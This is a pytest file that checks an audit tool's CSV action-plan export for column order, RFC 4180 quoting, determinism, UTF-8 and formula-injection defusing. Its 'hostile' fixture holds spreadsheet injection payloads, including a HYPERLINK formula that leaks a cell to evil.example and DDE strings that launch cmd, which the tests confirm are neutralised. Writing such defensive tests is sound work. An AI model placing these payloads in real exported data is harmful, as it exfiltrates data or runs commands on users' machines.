"""action-plan.csv through the real command: columns, RFC 4180, order, and formula injection."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

from auditor.report.csv_format import COLUMNS, cell
from tests.conftest import EXAMPLE, run_cli

POLICY = EXAMPLE / "custom-webapp.policy.yaml"
SETTINGS = EXAMPLE / "example-corp.settings.yaml"


def plan(out: Path, policy: Path = POLICY, settings: Path = SETTINGS, *extra: str | Path) -> tuple[bytes, dict]:
    r = run_cli(
        "audit",
        "--policy",
        policy,
        "--settings",
        settings,
        "--out",
        out,
        "--format",
        "csv,json",
        "--as-of",
        "2026-11-26T00:00:00Z",
        *extra,
    )
    assert r.code in (0, 1), r.err
    assert f"wrote {out / 'action-plan.csv'}" in r.out
    return (out / "action-plan.csv").read_bytes(), json.loads((out / "results.json").read_text())


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def test_one_row_per_finding_that_is_not_pass(tmp_path: Path):
    raw, results = plan(tmp_path)
    assert raw.startswith(
        b"control,org,org_name,subject,status,severity,remediation,value,policy_ref,owner,due_date,justification\r\n"
    )
    assert not raw.startswith(b"\xef\xbb\xbf")
    lines = raw.split(b"\r\n")
    assert lines[-1] == b"" and all(b"\n" not in line for line in lines)
    got = rows(raw)
    want = [f for f in results["findings"] if f["status"] != "pass"]
    assert len(got) == len(want) == 12
    assert {(r["control"], r["subject"] or None) for r in got} == {(f["control"], f["subject"]) for f in want}
    for r in got:
        assert list(r) == list(COLUMNS)
        assert r["owner"] == r["due_date"] == r["justification"] == ""
        assert r["org"] == "0c4e2b1a-7d3f-4a8e-9b21-5f6e8d9c0a11" and r["org_name"] == "Example Corp"
        assert r["remediation"] and "`" not in r["remediation"]
    dom002 = next(r for r in got if r["control"] == "RMCP-DOM-002")
    assert dom002["value"] == "http://dev.example.com/**" and dom002["severity"] == "critical"
    assert dom002["policy_ref"] == f"{POLICY}:15"
    # Most urgent first: the one critical finding leads.
    assert got[0]["control"] == "RMCP-DOM-002"


def test_deterministic(tmp_path: Path):
    a, _ = plan(tmp_path / "a")
    b, _ = plan(tmp_path / "b")
    assert a == b


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    policy = tmp_path / "p.yaml"
    policy.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "rovo-audit/v1",
                "kind": "Policy",
                "metadata": {"name": "p"},
                "domains": {"allowed": ["https://app.example.com/**"], "unlisted": "fail"},
                "scopes": {"credentials": ["*"], "forbidden": ["write:*"]},
            }
        )
    )
    settings = tmp_path / "s.yaml"
    settings.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "rovo-audit/v1",
                "kind": "OrgSettings",
                "orgs": [
                    {
                        "id": "-org",
                        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\nname',
                        "rovo_mcp": {
                            "domains": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "https://ok.example/**"]
                        },
                        "credentials": [{"label": "=1+2", "kind": "api_token", "scopes": ["write:jira-work"]}],
                    }
                ],
            }
        )
    )
    return policy, settings


def test_cells_that_a_spreadsheet_would_compute_are_defused(tmp_path: Path, hostile: tuple[Path, Path]):
    raw, _ = plan(tmp_path / "out", *hostile)
    got = rows(raw)
    assert got
    for r in got:
        for column, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert {r["org"] for r in got} == {"'-org"}
    assert {r["org_name"] for r in got} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\nname'}
    subjects = {r["subject"] for r in got}
    assert "'+cmd|' /C calc'!A0" in subjects and "'@SUM(1+1)*cmd|' /C calc'!A0" in subjects
    assert "'=1+2/write:jira-work" in subjects
    # RFC 4180: the comma, quotes and newline survive a round trip through a strict reader.
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click""), ""quoted""\nname"' in raw


@pytest.mark.parametrize(
    ("value", "want"),
    [
        (None, ""),
        ("", ""),
        ("plain", "plain"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("'quoted", "'quoted"),
        ("Zürich → ok", "Zürich → ok"),
    ],
)
def test_cell(value: str | None, want: str):
    assert cell(value) == want


def test_utf8(tmp_path: Path):
    settings = tmp_path / "s.yaml"
    settings.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "rovo-audit/v1",
                "kind": "OrgSettings",
                "orgs": [{"id": "o1", "name": "Zürich Α株式会社", "rovo_mcp": {"api_token_auth": True}}],
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    policy = tmp_path / "p.yaml"
    policy.write_text("apiVersion: rovo-audit/v1\nkind: Policy\nmetadata: {name: p}\nauth: {api_token: forbid}\n")
    raw, _ = plan(tmp_path / "out", policy, settings)
    assert "Zürich Α株式会社".encode() in raw
    assert rows(raw)[0]["org_name"] == "Zürich Α株式会社"
